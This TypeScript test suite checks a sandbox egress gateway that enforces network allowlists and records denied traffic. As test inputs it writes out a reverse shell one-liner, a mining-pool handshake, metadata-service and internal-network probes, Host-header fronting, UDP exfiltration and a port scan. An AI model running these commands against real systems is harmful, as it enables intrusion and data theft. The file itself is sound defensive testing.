import { execFile } from "node:child_process";
import { createServer as createWeb, type Server } from "node:http";
import { connect, createServer, type Server as TcpServer } from "node:net";
import { promisify } from "node:util";
import type { AleError, Telemetry } from "@ale/core";
import { NetworkPolicy } from "@ale/core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Attachment, EgressGateway, MOST_CABLES } from "../../src/egress/gateway.ts";
import { BURST, NEW_CONNECTIONS_PER_SECOND } from "../../src/egress/ruleset.ts";
import { probeCgroups, processesOf } from "../../src/host/cgroup.ts";
import { findTool } from "../../src/host/tools.ts";
import { BASE_IMAGE, defaultHome, resolveImage, type Sandbox } from "../../src/index.ts";
import { closeDriver, driver, obstacle, spec, suite, until } from "../support.ts";

const why = obstacle ?? (findTool("nft") === undefined ? "nft is not installed" : undefined);

/** A sandbox at the gateway, with what it was seen to do. */
interface Guest {
  readonly box: Sandbox;
  readonly attachment: Attachment;
  readonly pid: number;
  sh(script: string): Promise<{ exitCode: number | null; stdout: string }>;
}

describe.skipIf(why)(why === undefined ? suite("egress gateway") : `egress gateway (skipped: ${why})`, () => {
  const records: Telemetry[] = [];
  const dialled: string[] = [];
  const groups = probeCgroups();
  let gateway: EgressGateway;
  let web: Server;
  let echo: TcpServer;

  beforeAll(async () => {
    web = createWeb((request, response) => {
      let bytes = 0;
      request.on("data", (chunk: Buffer) => (bytes += chunk.length));
      request.on("end", () => response.end(`${request.method} ${request.headers.host} ${bytes}\n`));
    });
    echo = createServer((socket) => {
      socket.on("error", () => {});
      socket.write("220 welcome\n");
      socket.pipe(socket);
    });
    await Promise.all(
      [web, echo].map((server) => new Promise<void>((done) => server.listen(0, "127.0.0.1", done))),
    );
    const portOf = (server: Server | TcpServer): number => (server.address() as { port: number }).port;
    gateway = await EgressGateway.open({
      onRecord: (record) => records.push(record),
      // The outside world: whatever is dialled is written down, and ends on loopback.
      upstream: {
        resolve: async (name) => (name === "inside.test" ? ["10.1.2.3"] : ["203.0.113.5"]),
        dial: (address, port) => {
          dialled.push(`${address}:${port}`);
          return connect({ host: "127.0.0.1", port: portOf(port === 80 ? web : echo) });
        },
      },
    });
  });

  afterAll(async () => {
    gateway[Symbol.dispose]();
    web.close();
    echo.close();
    await closeDriver();
  });

  /** One that the driver gives no network to, nor a resolver. */
  const sandbox = async (): Promise<Sandbox> =>
    (await driver()).createFrom(resolveImage(defaultHome(), BASE_IMAGE), spec());

  async function guest(policy: object): Promise<Guest & AsyncDisposable> {
    const box = await sandbox();
    const pids = (): readonly number[] => processesOf(groups, box.id);
    const pid = Math.min(...pids());
    const attachment = gateway.attach({
      sandbox: box.id,
      initPid: pid,
      pids,
      policy: NetworkPolicy.parse(policy),
    });
    const setUp = `echo nameserver ${attachment.gateway} > /etc/resolv.conf`;
    await box.exec({ argv: ["sh", "-c", setUp], user: "root" });
    return {
      box,
      attachment,
      pid,
      sh: (script) => box.exec({ argv: ["bash", "-c", script], timeoutMs: 15_000 }),
      [Symbol.asyncDispose]: async () => {
        attachment.detach();
        await box.destroy();
      },
    };
  }

  const of = ({ box }: Guest, kind: Telemetry["kind"]): Telemetry[] =>
    records.filter((record) => record.sandbox === box.id && record.kind === kind);
  const http = (host: string, more = ""): string =>
    `exec 3<>/dev/tcp/${host}/80; printf 'GET / HTTP/1.1\\r\\nHost: ${more || host}\\r\\nConnection: close\\r\\n\\r\\n' >&3; cat <&3`;
  const allow = (name: string, more: object = {}) => ({ mode: "allowlist", hosts: [{ name, ...more }] });

  it("lets an allowed name through, counts its bytes, and tells who it was", async () => {
    await using one = await guest(allow("files.test"));
    const { stdout } = await one.sh(http("files.test"));
    expect(stdout).toContain("GET files.test 0");
    await until("the flow is told", () => of(one, "net.flow").length === 1);
    expect(of(one, "net.flow")[0]).toMatchObject({
      net: {
        host: "files.test",
        port: 80,
        class: "http",
        bytesUp: expect.any(Number),
        // What a firewall behind the gateway sees instead of the sandbox's own address and port.
        upstream: {
          ip: "127.0.0.1",
          port: expect.any(Number),
          sourceIp: "127.0.0.1",
          sourcePort: expect.any(Number),
        },
      },
      process: { command: expect.stringContaining("files.test") },
    });
  });

  it("knows no other name, and asks nobody about it", async () => {
    await using one = await guest(allow("files.test"));
    expect((await one.sh("getent hosts evil.test")).exitCode).not.toBe(0);
    expect(of(one, "dns.query").at(-1)).toMatchObject({ dns: { name: "evil.test", allowed: false } });
  });

  it("tells what is sent to resolvers and is no question", async () => {
    await using one = await guest(allow("files.test"));
    await one.sh("exec 3<>/dev/udp/203.0.113.9/53; echo no question >&3; read -rt 0.2 -u 3; true");
    await until("it is told", () => of(one, "net.deny").length === 1);
    expect(of(one, "net.deny")[0]).toMatchObject({
      source: "dns",
      net: { protocol: "udp", port: 53, rule: "protocol" },
      process: { command: expect.stringContaining("203.0.113.9") },
    });
  });

  it.each([
    ["an internal address", "exec 3<>/dev/tcp/10.0.0.5/5432; echo hello >&3; cat <&3", "private", "unknown"],
    ["the metadata service", http("169.254.169.254"), "metadata", "http"],
    ["an SSH server", "exec 3<>/dev/tcp/198.51.100.7/22; echo SSH-2.0-x >&3; cat <&3", "default", "ssh"],
    [
      "a mining pool",
      `exec 3<>/dev/tcp/198.51.100.7/3333; echo '{"method":"mining.subscribe"}' >&3; cat <&3`,
      "default",
      "stratum",
    ],
    ["whoever waits for a shell", "bash -i >& /dev/tcp/203.0.113.11/4444 0>&1", "default", "shell"],
    ["its gateway", "exec 3<>/dev/tcp/198.19.0.0/8443; echo x >&3; cat <&3", "sandbox", "unknown"],
  ])("refuses %s, and says what was tried and by which process", async (_name, script, rule, kind) => {
    await using one = await guest(allow("files.test"));
    const before = dialled.length;
    await one.sh(script);
    await until("it is told", () => of(one, "net.capture").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule }, process: { pid: expect.any(Number) } });
    expect(of(one, "net.capture")[0]).toMatchObject({ net: { rule, class: kind } });
    expect(dialled.length).toBe(before);
  });

  it("knows the process of a connection that was made by a socket of IPv6", async () => {
    await using one = await guest(allow("files.test"));
    const perl = `socket(S, AF_INET6, SOCK_STREAM, 0) or die $!; connect(S, pack_sockaddr_in6(80, inet_pton(AF_INET6, "::ffff:10.0.0.5"))) or die $!; sysread(S, $b, 1)`;
    await one.box.exec({ argv: ["perl", "-MSocket=:all", "-e", perl], timeoutMs: 15_000 });
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({
      net: { rule: "private", ip: "10.0.0.5" },
      process: { command: expect.stringContaining("perl -MSocket") },
    });
  });

  it("tells two connections from one port to two places apart", async () => {
    await using one = await guest(allow("files.test"));
    const perl = `for $to ("10.0.0.5", "10.0.0.6") { socket($s, PF_INET, SOCK_STREAM, 0); setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1); bind($s, sockaddr_in(40000, INADDR_ANY)) or die $!; connect($s, sockaddr_in(80, inet_aton($to))) or die $!; push @all, $s; undef $s } sleep 1`;
    await one.box.exec({ argv: ["perl", "-MSocket=:all", "-e", perl], timeoutMs: 15_000 });
    await until("both are told", () => of(one, "net.deny").length > 1);
    expect(of(one, "net.deny").slice(0, 2)).toMatchObject(
      ["10.0.0.5", "10.0.0.6"].map((ip) => ({
        net: { ip, sourcePort: 40_000 },
        process: { command: expect.stringContaining("perl -MSocket") },
      })),
    );
  });

  it("refuses another sandbox", async () => {
    await using one = await guest(allow("files.test"));
    await using other = await guest(allow("files.test"));
    const server = await other.box.start({ argv: ["perl", "-MIO::Socket", "-e", "sleep 5"] });
    await one.sh(`exec 3<>/dev/tcp/${other.attachment.address}/80; echo x >&3; cat <&3`);
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "sandbox", ip: other.attachment.address } });
    await server.signal("SIGKILL");
  });

  it("drops and tells datagrams", async () => {
    await using one = await guest(allow("files.test"));
    await one.sh("echo secret > /dev/udp/198.51.100.7/9000");
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({
      net: { protocol: "udp", ip: "198.51.100.7", port: 9000 },
    });
  });

  it("answers a query to any resolver itself", async () => {
    await using one = await guest(allow("files.test"));
    const ask = `printf '\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01' >&3; head -c 4 <&3 | od -An -tx1`;
    const { stdout } = await one.sh(`exec 3<>/dev/udp/8.8.8.8/53; ${ask}`);
    expect(stdout.trim()).toMatch(/^00 01 85 83$/);
  });

  it("refuses a request that names another host than the one whose address it used", async () => {
    await using one = await guest(allow("files.test"));
    const before = dialled.length;
    await one.sh(http("files.test", "evil.test"));
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({
      net: { rule: "fronting", host: "files.test", claimed: "evil.test" },
    });
    expect(dialled.length).toBe(before);
  });

  it("compares every request of a connection, not only its first", async () => {
    await using one = await guest(allow("files.test"));
    const two =
      "GET / HTTP/1.1\\r\\nHost: files.test\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n";
    const { stdout } = await one.sh(`exec 3<>/dev/tcp/files.test/80; printf '${two}' >&3; cat <&3`);
    expect(stdout).not.toContain("evil.test");
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "fronting", claimed: "evil.test" } });
  });

  it("refuses TLS for another name, for none, and what is no TLS, on the port of TLS", async () => {
    await using one = await guest(allow("files.test"));
    const address = (await one.sh("getent ahostsv4 files.test | head -1")).stdout.split(" ")[0];
    const client = (options: object): string =>
      `const s=require('tls').connect(${JSON.stringify({ host: address, port: 443, rejectUnauthorized: false, ...options })});s.on('error',()=>process.exit(1));setTimeout(()=>process.exit(1),3000)`;
    const inside = (script: string): Promise<unknown> =>
      promisify(execFile)("nsenter", [`--net=/proc/${one.pid}/ns/net`, process.execPath, "-e", script]).catch(
        () => {},
      );
    await inside(client({ servername: "evil.test" }));
    await inside(client({}));
    await one.sh("exec 3<>/dev/tcp/files.test/443; echo SSH-2.0-x >&3; cat <&3");
    await until("all are told", () => of(one, "net.deny").length >= 3);
    expect(of(one, "net.deny").map(({ net }) => net?.rule)).toEqual(["fronting", "fronting", "protocol"]);
  });

  it("refuses an allowed name that leads into a private network", async () => {
    await using one = await guest(allow("inside.test"));
    await one.sh(http("inside.test"));
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "private", host: "inside.test" } });
    expect(dialled).not.toContain("10.1.2.3:80");
  });

  it("lets a server that speaks first be heard, where its port is allowed", async () => {
    await using one = await guest(allow("mail.test", { ports: [25] }));
    const { stdout } = await one.sh("exec 3<>/dev/tcp/mail.test/25; head -1 <&3");
    expect(stdout).toBe("220 welcome\n");
    await one.sh("exec 3<>/dev/tcp/mail.test/26; echo x >&3; cat <&3");
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "port", host: "mail.test", port: 26 } });
  });

  it("lets an address through that is named, and not its neighbour", async () => {
    await using one = await guest({
      mode: "allowlist",
      addresses: [{ network: "192.0.2.7", ports: [5432] }],
    });
    expect((await one.sh("exec 3<>/dev/tcp/192.0.2.7/5432; head -1 <&3")).stdout).toBe("220 welcome\n");
    await one.sh("exec 3<>/dev/tcp/192.0.2.8/5432; echo x >&3; cat <&3");
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "default", ip: "192.0.2.8" } });
  });

  it("ends a connection that uses up its budget", async () => {
    await using one = await guest({ ...allow("files.test"), budget: { bytesUp: 200_000 } });
    const post = `printf 'POST / HTTP/1.1\\r\\nHost: files.test\\r\\nContent-Length: 90000000\\r\\n\\r\\n' >&3; head -c 90000000 /dev/zero >&3`;
    await one.sh(`exec 3<>/dev/tcp/files.test/80; ${post}`);
    await until("it is told", () => of(one, "net.deny").length > 0);
    expect(of(one, "net.deny")[0]).toMatchObject({ net: { rule: "budget" } });
    await one.sh(http("files.test"));
    expect(of(one, "net.deny").length).toBeGreaterThan(1);
  });

  it("follows a policy that is changed while the sandbox runs", async () => {
    await using one = await guest(allow("files.test"));
    expect((await one.sh(http("files.test"))).stdout).toContain("GET files.test");
    one.attachment.setPolicy(NetworkPolicy.parse(allow("other.test")), { endOpen: true });
    expect((await one.sh("getent hosts files.test")).exitCode).not.toBe(0);
    expect((await one.sh(http("other.test"))).stdout).toContain("GET other.test");
  });

  it("hears a scan at a bounded rate, and says that there was one", async () => {
    await using one = await guest(allow("files.test"));
    const startedAt = performance.now();
    await one.sh(
      "for p in {1..250}; do (exec 3<>/dev/tcp/10.0.0.6/$p) 2>/dev/null & done; sleep 2; kill $(jobs -p) 2>/dev/null",
    );
    const seconds = (performance.now() - startedAt) / 1000;
    const heard = of(one, "net.deny").filter(({ source }) => source === "proxy").length;
    expect(heard).toBeLessThanOrEqual(BURST + NEW_CONNECTIONS_PER_SECOND * Math.ceil(seconds));
    expect(of(one, "net.deny").some(({ net }) => net?.rule === "scan")).toBe(true);
  });

  it("has room for others, however many sandboxes ended before they were plugged in", async () => {
    using own = await EgressGateway.open({ onRecord: () => {} });
    const policy = NetworkPolicy.parse({ mode: "open" });
    const gone = { sandbox: "gone", initPid: process.pid, pids: () => [], policy };
    const refused = new Set<string>();
    for (let i = 0; i < MOST_CABLES; i++)
      try {
        own.attach(gone);
      } catch (error) {
        refused.add((error as AleError).code);
      }
    expect([...refused]).toEqual(["sandbox-gone"]);
    await using box = await sandbox();
    const pids = () => processesOf(groups, box.id);
    const { address } = own.attach({ sandbox: box.id, initPid: Math.min(...pids()), pids, policy });
    expect(address).toMatch(/^198\.19\./);
  });

  it("lets nothing out once it is gone", async () => {
    await using one = await guest(allow("files.test"));
    const own = await EgressGateway.open({ onRecord: () => {} });
    const box = await sandbox();
    const pid = Math.min(...processesOf(groups, box.id));
    const { gateway: address } = own.attach({
      sandbox: box.id,
      initPid: pid,
      pids: () => processesOf(groups, box.id),
      policy: NetworkPolicy.parse({ mode: "open" }),
    });
    await box.exec({ argv: ["sh", "-c", `echo nameserver ${address} > /etc/resolv.conf`], user: "root" });
    own[Symbol.dispose]();
    const { exitCode } = await box.exec({
      argv: ["timeout", "3", "bash", "-c", "exec 3<>/dev/tcp/192.0.2.7/80"],
    });
    expect(exitCode).not.toBe(0);
    // The cable goes with the namespace, which the kernel takes apart in its own time.
    let links = "";
    for (let i = 0; i < 100 && (i === 0 || links.includes("eth0")); i++) {
      links = (await box.exec({ argv: ["cat", "/proc/net/dev"] })).stdout;
      await new Promise((done) => setTimeout(done, 20));
    }
    expect(links).not.toContain("eth0");
    await box.destroy();
    expect((await one.sh(http("files.test"))).stdout).toContain("GET files.test");
  });
});
